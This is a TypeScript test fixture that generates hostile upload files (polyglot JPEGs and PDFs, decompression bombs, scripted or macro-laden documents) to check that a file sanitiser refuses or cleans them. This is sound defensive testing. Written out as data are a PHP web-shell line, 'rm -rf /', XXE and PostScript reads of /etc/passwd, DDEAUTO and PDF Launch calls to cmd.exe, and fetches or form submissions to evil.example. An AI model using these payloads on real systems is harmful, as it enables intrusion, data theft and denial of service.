import { createRequire } from 'node:module';
import { randomBytes } from 'node:crypto';
import { deflateSync, gzipSync } from 'node:zlib';
import type * as PdfLibrary from '@cantoo/pdf-lib';
import type { Problem } from '#lib/modules/seller-files/domain.ts';
import { madePdf, packed } from './pdfs.ts';
import { bitmap, cmykPhoto, greyPng, pagedTiff, phonePhoto, photo, png, tiff } from './pictures.ts';
import { compoundOf, madeDoc, madeDocx, relation, wordStream, zipOf } from './words.ts';

/**
 * Files that somebody could send to do harm, each made here. `refused` is why it is not taken; `without` is what must
 * not be left in what is kept of it, unpacked or, where `isDrawn`, as it lies. For tests only.
 */
export type Hostile = {
  what: string;
  make: () => Buffer | Promise<Buffer>;
  refused?: Problem;
  without?: RegExp;
  isDrawn?: boolean;
};

const SCRIPT = '<script>fetch("https://evil.example")</script>';
const ARCHIVE = zipOf([{ name: 'evil.exe', bytes: 'MZ this program' }]);

const JAVASCRIPT = '<< /S /JavaScript /JS (app.alert\\(document.URL\\)) >>';
const ACTIONS =
  /JavaScript|\/JS\b|app\.alert|\/Launch|\/URI|EmbeddedFile|Filespec|\/OpenAction|\/AA\b|evil|\/XFA|SubmitForm/;

const refused = (what: string, problem: Problem, make: Hostile['make']): Hostile => ({ what, make, refused: problem });
const harmless = (what: string, without: RegExp, make: Hostile['make']): Hostile => ({ what, make, without });

const FORM = '/Type /XObject /Subtype /Form /BBox [0 0 9 9]';

/** A stream of objects that packs this text, which the reader of a document unpacks at once. */
const objectStream = (text: Buffer | string, filter = '/FlateDecode') => ({
  dict: `/Type /ObjStm /N 1 /First 4 /Filter ${filter}`,
  stream: deflateSync(Buffer.from(text), { level: 9 }),
});

const pdfLibrary = createRequire(import.meta.url)('@cantoo/pdf-lib') as typeof PdfLibrary;

async function encryptedPdf(userPassword: string): Promise<Buffer> {
  const document = await pdfLibrary.PDFDocument.load(madePdf());
  document.encrypt({ userPassword, ownerPassword: 'owner-of-it' });
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

const PICTURES: readonly Hostile[] = [
  harmless('a photograph with its position, its maker and its owner', /SecretPhone|Dana Levi|Exif|GPS/, phonePhoto),
  harmless('a JPEG with an archive behind it', /PK\x03\x04|evil\.exe/, async () =>
    Buffer.concat([await photo(), ARCHIVE]),
  ),
  harmless('a JPEG with a page and a script behind it', /script|evil/, async () =>
    Buffer.concat([await photo(), Buffer.from(`<html>${SCRIPT}`)]),
  ),
  harmless('a JPEG with a script of PHP in its comment', /php|system/, async () => {
    const bytes = await photo();
    const comment = Buffer.from('<?php system($_GET["c"]); ?>');
    const head = Buffer.from([0xff, 0xfe, 0, comment.length + 2]);
    return Buffer.concat([bytes.subarray(0, 2), head, comment, bytes.subarray(2)]);
  }),
  harmless('a PNG with a script in its texts', /script|evil/, () =>
    greyPng(32, 32, { extra: [['tEXt', Buffer.from(`Comment\0${SCRIPT}`)]] }),
  ),
  harmless('a PNG with a document behind it', /%PDF|JavaScript/, async () =>
    Buffer.concat([await png(), madePdf({ catalog: `/OpenAction ${JAVASCRIPT}` })]),
  ),
  harmless('a photograph in the colours of a print shop', /Adobe/, cmykPhoto),
  harmless('a TIFF with a script behind it', /script|evil/, async () =>
    Buffer.concat([await tiff(), Buffer.from(SCRIPT)]),
  ),
  harmless('a BMP with a program behind it', /program/, () =>
    Buffer.concat([bitmap(20, 10), Buffer.from('MZ this program')]),
  ),
  refused('a PNG bomb: 30,000 by 30,000 pixels in a few kilobytes', 'dimensions', () =>
    greyPng(30_000, 30_000, { rows: 1 }),
  ),
  refused('a PNG of one line that is two million pixels wide', 'dimensions', () => greyPng(2_000_000, 1)),
  refused('a PNG that says it has four billion pixels in a row', 'damaged', () => greyPng(0xffffffff, 1, { rows: 0 })),
  refused('a PNG with a profile that unpacks to 200 MB', 'damaged', () =>
    greyPng(32, 32, {
      extra: [['iCCP', Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.alloc(200_000_000), { level: 9 })])]],
      rows: 3,
    }),
  ),
  refused('a BMP that says it is 30,000 pixels wide', 'dimensions', () => bitmap(4, 4, { saysWidth: 30_000 })),
  refused('a BMP that says it is higher than it is', 'damaged', () => bitmap(4, 4, { saysHeight: 4_000 })),
  refused('a BMP that is packed by RLE', 'compressed_bitmap', () => bitmap(4, 4, { compression: 1 })),
  refused('a HEIC picture of a phone', 'heic', () =>
    Buffer.concat([Buffer.from('\0\0\0\u0018ftypheic\0\0\0\0mif1heic', 'latin1'), randomBytes(2_000)]),
  ),
  refused('a BMP of negative width', 'damaged', () => bitmap(4, 4, { saysWidth: -4 })),
  refused('a TIFF of 60 pages', 'pages', () => pagedTiff(60)),
  refused('half of a JPEG', 'damaged', async () => {
    const bytes = await photo(1_200, 900);
    return bytes.subarray(0, bytes.length / 2);
  }),
  refused('half of a PNG', 'damaged', async () => (await png(900, 700)).subarray(0, 400)),
  refused('a JPEG of three bytes', 'damaged', () => Buffer.from([0xff, 0xd8, 0xff])),
  refused('noise that begins like a JPEG', 'damaged', () =>
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(50_000)]),
  ),
];

const OTHERS: readonly Hostile[] = [
  refused('an SVG with a script', 'type', () =>
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`),
  ),
  refused('an SVG in a gzip', 'type', () => gzipSync(`<svg>${SCRIPT}</svg>`)),
  refused('a page of HTML', 'type', () => Buffer.from(`<!doctype html><html>${SCRIPT}</html>`)),
  refused('XML that names a style sheet', 'type', () =>
    Buffer.from(`<?xml version="1.0"?><?xml-stylesheet href="x"?><x/>`),
  ),
  refused('a program of Windows', 'type', () =>
    Buffer.from('MZ\x90\x00this program cannot be run in DOS mode', 'latin1'),
  ),
  refused('a program of Linux', 'type', () =>
    Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(64)]),
  ),
  refused('a script of a shell', 'type', () => Buffer.from('#!/bin/sh\nrm -rf /\n')),
  refused('a GIF with a script', 'type', () => Buffer.from(`GIF89a/*${'x'.repeat(40)}*/=1;alert(1)`)),
  refused('a page behind the head of a GIF', 'type', () => Buffer.from(`GIF89a<html>${SCRIPT}`)),
  refused('PostScript', 'type', () => Buffer.from('%!PS-Adobe-3.0\n(/etc/passwd) (r) file')),
  refused('a text that begins like a BMP', 'type', () => Buffer.from(`BM${'=alert(1);'.repeat(20)}`)),
  refused('RTF with an object', 'type', () => Buffer.from('{\\rtf1{\\object\\objocx{\\*\\objdata 00}}}')),
  refused('nothing', 'empty', () => Buffer.alloc(0)),
  refused('one byte more than is taken', 'too_large', () => Buffer.alloc(10 * 1024 * 1024 + 1, 0x25)),
];

const DOCUMENTS: readonly Hostile[] = [
  harmless('a PDF with a script that runs when it is opened', ACTIONS, () =>
    madePdf({ catalog: `/OpenAction ${JAVASCRIPT}` }),
  ),
  harmless('a PDF with a script of its pages', ACTIONS, () =>
    madePdf({ page: `/AA << /O ${JAVASCRIPT} /C ${JAVASCRIPT} >>` }),
  ),
  harmless('a PDF with scripts in its tree of names', ACTIONS, () =>
    madePdf({ catalog: `/Names << /JavaScript << /Names [(a) ${JAVASCRIPT}] >> >>` }),
  ),
  harmless('a PDF whose script is called by another spelling', /app\.alert|J#61va|JavaScript/, () =>
    madePdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>' }),
  ),
  harmless('a PDF that starts a program', ACTIONS, () =>
    madePdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (evil.exe) >> >>' }),
  ),
  harmless('a PDF with a link that is a script, and one to a page', ACTIONS, () =>
    madePdf({
      page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A ${JAVASCRIPT} >>
        << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://evil.example) >> >>]`,
    }),
  ),
  harmless('a PDF with a program in it', /EmbeddedFile|evil|MZ/, () =>
    madePdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >> /AF [6 0 R]',
      objects: [
        '<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>',
        { dict: '/Type /EmbeddedFile', stream: 'MZ program' },
      ],
      page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]',
    }),
  ),
  harmless('a PDF with a form that sends itself away', ACTIONS, () =>
    madePdf({
      catalog: '/AcroForm << /Fields [6 0 R] /XFA 7 0 R >>',
      objects: [
        `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 50 20] /AP << /N 8 0 R >>
          /A << /S /SubmitForm /F (https://evil.example) >> /AA << /E ${JAVASCRIPT} >> >>`,
        packed('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">evil</xdp:xdp>'),
        packed('/Type /XObject /Subtype /Form /BBox [0 0 50 20]', '0 0 50 20 re f'),
      ],
      page: '/Annots [6 0 R]',
    }),
  ),
  harmless('a PDF that is drawn with a file and a document elsewhere', /evil|\/Ref|FFilter/, () =>
    madePdf({
      page: '/Resources << /XObject << /X 6 0 R /Y 7 0 R >> >>',
      objects: [
        {
          dict: '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (//evil.example/a.pdf) /Page 0 >>',
          stream: '0 0 9 9 re f',
        },
        {
          dict:
            '/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray ' +
            '/F (http://evil.example/x) /FFilter /FlateDecode',
          stream: 'x',
        },
      ],
    }),
  ),
  harmless('a PDF with metadata of its author', /Dana|Levi|Secret|Metadata/, () =>
    madePdf({
      trailer: '/Info << /Author (Dana Levi) /Creator (Secret) >>',
      catalog: '/Metadata 6 0 R',
      objects: [{ dict: '/Type /Metadata /Subtype /XML', stream: '<x>Dana Levi</x>' }],
    }),
  ),
  harmless('a PDF with sound and film', /RichMedia|Screen|Movie|evil/, () =>
    madePdf({
      page: `/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>
        << /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /JS (evil) >> >>
        << /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (evil.avi) >> >>]`,
    }),
  ),
  {
    ...harmless('a PDF with a page of HTML in a stream that lies in the clear', /script|evil/, () =>
      madePdf({
        page: '/Resources << /XObject << /X 6 0 R >> >>',
        objects: [{ dict: FORM, stream: `% ${SCRIPT}\n0 0 9 9 re f` }],
      }),
    ),
    isDrawn: true,
  },
  harmless('a PDF with an archive behind it', /PK\x03\x04|evil/, () => madePdf({ after: ARCHIVE })),
  harmless('a PDF with a page of HTML behind it', /html|script/, () => madePdf({ after: `<html>${SCRIPT}</html>` })),
  harmless('a PDF with a second catalogue that was added later', ACTIONS, () =>
    madePdf({
      after:
        `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${JAVASCRIPT} >>\nendobj\n` +
        'trailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n0\n%%EOF',
    }),
  ),
  harmless('a PDF that encrypts itself and opens without a password', /Encrypt/, () => encryptedPdf('')),
  refused('a PDF with a password', 'encrypted', () => encryptedPdf('of-the-user')),
  refused('a page of HTML before a PDF', 'type', () => madePdf({ before: `<html>${SCRIPT}</html>\n` })),
  refused('a GIF before a PDF', 'type', () => madePdf({ before: 'GIF89a;' })),
  refused('a PDF of 201 pages', 'pages', () => madePdf({ pages: 201 })),
  refused('a PDF without pages', 'damaged', () =>
    Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>'),
  ),
  refused('a PDF whose tree of pages goes round in a circle', 'damaged', () =>
    Buffer.from(madePdf().toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R]'), 'latin1'),
  ),
  refused('half of a PDF', 'damaged', () => madePdf().subarray(0, 90)),
  refused('the head of a PDF and noise', 'damaged', () =>
    Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(100_000)]),
  ),
  refused('a PDF bomb: objects that unpack to 400 MB', 'unpacks_too_large', () =>
    madePdf({ objects: [objectStream(Buffer.alloc(400_000_000, 0x20))] }),
  ),
  refused('a PDF bomb: objects that were packed twice', 'unpacks_too_large', () =>
    madePdf({ objects: [objectStream(deflateSync(Buffer.alloc(50_000_000, 0x20)), '[/FlateDecode /FlateDecode]')] }),
  ),
  refused('a PDF bomb: a page that unpacks to 300 MB', 'unpacks_too_large', () =>
    madePdf({
      page: '/Resources << /XObject << /X 6 0 R >> >>',
      objects: [packed(FORM, Buffer.alloc(300_000_000, 0x20))],
    }),
  ),
  refused('a PDF bomb: a run of 45 MB', 'unpacks_too_large', () =>
    madePdf({
      page: '/Resources << /XObject << /X 6 0 R >> >>',
      objects: [{ dict: `${FORM} /Filter /RunLengthDecode`, stream: Buffer.alloc(720_000, '8120', 'hex') }],
    }),
  ),
  refused('a PDF bomb: a page in text that unpacks to 50 MB', 'unpacks_too_large', () =>
    madePdf({
      page: '/Resources << /XObject << /X 6 0 R >> >>',
      objects: [
        {
          dict: `${FORM} /Filter [/ASCIIHexDecode /FlateDecode]`,
          stream: `${deflateSync(Buffer.alloc(50_000_000, 0x20)).toString('hex')}>`,
        },
      ],
    }),
  ),
  refused('a PDF with a picture of a billion pixels', 'dimensions', () =>
    madePdf({
      page: '/Resources << /XObject << /X 6 0 R >> >>',
      objects: [
        {
          dict: '/Type /XObject /Subtype /Image /Width 40000 /Height 40000 /BitsPerComponent 1 /ColorSpace /DeviceGray',
          stream: 'x',
        },
      ],
    }),
  ),
];

const NEW_WORD: readonly Hostile[] = [
  refused('a docx with macros', 'active_content', () =>
    madeDocx({ parts: [{ name: 'word/vbaProject.bin', bytes: 'macros' }] }),
  ),
  refused('a docm that is called a docx', 'type', () =>
    madeDocx({ main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
  ),
  refused('a docx with an embedded object', 'active_content', () =>
    madeDocx({
      relations: relation('oleObject', 'embeddings/oleObject1.bin'),
      parts: [{ name: 'word/embeddings/oleObject1.bin', bytes: 'x' }],
    }),
  ),
  refused('a docx with a page of HTML in it', 'active_content', () =>
    madeDocx({ relations: relation('aFChunk', 'chunk.html'), parts: [{ name: 'word/chunk.html', bytes: SCRIPT }] }),
  ),
  refused('a docx with a control', 'active_content', () =>
    madeDocx({ parts: [{ name: 'word/activeX/activeX1.xml', bytes: '<x/>' }] }),
  ),
  refused('a docx whose template is elsewhere', 'external_content', () =>
    madeDocx({ relations: relation('attachedTemplate', 'https://evil.example/t.dotm', 'External') }),
  ),
  refused('a docx with a picture that is elsewhere', 'external_content', () =>
    madeDocx({ relations: relation('image', '\\\\evil.example\\share\\x.png', 'External') }),
  ),
  refused('a docx with a field that runs a program, written in pieces', 'external_content', () =>
    madeDocx({
      body: ['DD', 'E&#x41;UTO c:\\cmd.exe'].map((part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`).join(''),
    }),
  ),
  refused('a docx with an entity that names a file', 'active_content', () =>
    madeDocx({
      parts: [{ name: 'word/settings.xml', bytes: '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>' }],
    }),
  ),
  harmless('a docx with a link', /evil/, () =>
    madeDocx({ relations: relation('hyperlink', 'https://evil.example/', 'External') }),
  ),
  harmless('a docx with parts that climb out of their folder', /\.\.|passwd|evil/, () =>
    madeDocx({
      parts: [
        { name: '../../../../etc/passwd', bytes: 'root' },
        { name: '/evil.sh', bytes: 'x' },
        { name: 'word\\evil.xml', bytes: 'x' },
      ],
    }),
  ),
  harmless('a docx with an archive behind it', /evil\.exe/, () =>
    Buffer.concat([madeDocx().subarray(0, -22), ARCHIVE, madeDocx().subarray(-22)]),
  ),
  refused('a ZIP bomb that is called a docx', 'unpacks_too_large', () =>
    madeDocx({ parts: [{ name: 'word/big.xml', bytes: Buffer.alloc(30_000_000) }] }),
  ),
  refused('a ZIP bomb that says it is small', 'unpacks_too_large', () =>
    madeDocx({ parts: [{ name: 'word/big.xml', bytes: Buffer.alloc(50_000_000), saysSize: 1_000 }] }),
  ),
  refused('a ZIP of many parts', 'unpacks_too_large', () =>
    madeDocx({ parts: Array.from({ length: 1_200 }, (_, index) => ({ name: `word/p${index}.xml`, bytes: 'x' })) }),
  ),
  refused('a docx that has one part twice', 'damaged', () =>
    madeDocx({ parts: [{ name: 'word/Document.xml', bytes: 'x' }] }),
  ),
  refused('an encrypted ZIP', 'encrypted', () => madeDocx({ parts: [{ name: 'word/x.xml', bytes: 'x', flags: 1 }] })),
  refused('an archive of programs', 'type', () => ARCHIVE),
  refused('an XLSX', 'type', () =>
    zipOf([
      { name: '[Content_Types].xml', bytes: '<Types/>' },
      { name: 'xl/workbook.xml', bytes: '<x/>' },
    ]),
  ),
  refused('half of a docx', 'damaged', () => madeDocx().subarray(0, 300)),
];

const OLD_WORD: readonly Hostile[] = [
  refused('a doc with macros', 'active_content', () =>
    madeDoc('x', [
      { name: 'Macros', kind: 1 },
      { name: 'VBA', kind: 1 },
    ]),
  ),
  refused('a doc with an embedded object', 'active_content', () => madeDoc('x', [{ name: 'ObjectPool', kind: 1 }])),
  refused('a doc with a package', 'active_content', () =>
    madeDoc('x', [{ name: '\u0001Ole10Native', bytes: Buffer.from('MZ') }]),
  ),
  refused('a doc with a field that runs a program', 'external_content', () =>
    madeDoc('\u0013 DDEAUTO c:\\cmd.exe "/k" \u0015'),
  ),
  refused('a doc with a picture that is elsewhere, in two bytes a letter', 'external_content', () =>
    compoundOf([
      {
        name: 'WordDocument',
        bytes: Buffer.concat([
          wordStream(''),
          Buffer.from('\u0013 INCLUDEPICTURE "http://evil.example/x" \u0015', 'utf16le'),
        ]),
      },
      { name: '1Table', bytes: Buffer.from('x') },
    ]),
  ),
  refused('a doc whose template is elsewhere', 'external_content', () =>
    compoundOf([
      { name: 'WordDocument', bytes: wordStream('x') },
      { name: '1Table', bytes: Buffer.from('https://evil.example/t.dot', 'utf16le') },
    ]),
  ),
  refused('an encrypted doc', 'encrypted', () => madeDoc('x', [], 0x0100)),
  refused('an encrypted docx, which is a compound file', 'encrypted', () =>
    compoundOf([
      { name: 'EncryptionInfo', bytes: Buffer.from('x') },
      { name: 'EncryptedPackage', bytes: Buffer.from('x') },
    ]),
  ),
  refused('an old sheet', 'type', () => compoundOf([{ name: 'Workbook', bytes: Buffer.from('x') }])),
  refused('an installer', 'type', () => compoundOf([{ name: '\u4840\u3b3f\u43f2', bytes: Buffer.from('x') }])),
  refused('a doc whose chain of sectors comes back to itself', 'damaged', () => {
    const bytes = madeDoc();
    bytes.writeUInt32LE(1, 512 + 4);
    return bytes;
  }),
  refused('half of a doc', 'damaged', () => madeDoc().subarray(0, 2_000)),
  harmless('a doc with an archive behind it', /evil\.exe/, () => Buffer.concat([madeDoc(), ARCHIVE])),
];

export const HOSTILE: readonly Hostile[] = [...PICTURES, ...OTHERS, ...DOCUMENTS, ...NEW_WORD, ...OLD_WORD];
